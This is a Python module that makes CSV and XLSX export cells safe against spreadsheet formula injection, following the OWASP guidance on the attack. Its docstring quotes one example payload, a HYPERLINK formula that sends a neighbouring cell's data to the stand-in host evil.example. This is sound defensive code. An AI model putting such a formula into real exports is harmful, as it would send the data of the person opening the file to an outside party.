"""Cells for every CSV and XLSX export: data, never formulas.

A spreadsheet program runs a cell that begins with `=`, `+`, `-` or `@` (and, after a
tab or carriage return, what follows) as a formula, so a product named
`=HYPERLINK("http://evil.example/?"&A1,"Xoài")` in an export would send the officer's
data away when clicked. Text cells that begin so get a leading single quote (OWASP,
"CSV Injection"); numbers stay numbers. XLSX text cells are written as strings
(openpyxl data type "s"), so nothing in them is ever read as a formula either.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any, Final

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
XLSX_TYPE: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE: Final = "text/csv; charset=utf-8"
# Excel's own limits on sheet titles: at most 31 characters, none of []:*?/\ .
_TITLE_LENGTH: Final = 31
_TITLE_FORBIDDEN: Final = str.maketrans({c: "_" for c in "[]:*?/\\"})


def data_cell(value: Any) -> Any:
    """The value as a cell that is data: text beginning like a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(
    header: Sequence[str], rows: Iterable[Sequence[Any]], *, lineterminator: str = "\r\n"
) -> str:
    """CSV of the header and rows, every cell passed through `data_cell` (None → empty)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=lineterminator)
    writer.writerow([data_cell(v) for v in header])
    for row in rows:
        writer.writerow(["" if v is None else data_cell(v) for v in row])
    return out.getvalue()


@dataclass
class Sheet:
    title: str
    header: Sequence[str]
    rows: Iterable[Sequence[Any]]
    widths: Sequence[float] = field(default_factory=tuple)
    """Column widths in characters, left to right; columns beyond keep Excel's default."""


def _cell(sheet: WriteOnlyWorksheet, value: Any, *, bold: bool = False) -> WriteOnlyCell:
    cell = WriteOnlyCell(sheet, value=data_cell(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"
    if bold:
        cell.font = Font(bold=True)
    return cell


def xlsx_bytes(*sheets: Sheet) -> bytes:
    """A workbook with one worksheet per sheet, header row in bold; cells as `data_cell`."""
    workbook = Workbook(write_only=True)
    for spec in sheets:
        sheet = workbook.create_sheet(spec.title.translate(_TITLE_FORBIDDEN)[:_TITLE_LENGTH])
        for index, width in enumerate(spec.widths, start=1):
            sheet.column_dimensions[get_column_letter(index)].width = width
        sheet.append([_cell(sheet, v, bold=True) for v in spec.header])
        for row in spec.rows:
            sheet.append([_cell(sheet, v) for v in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
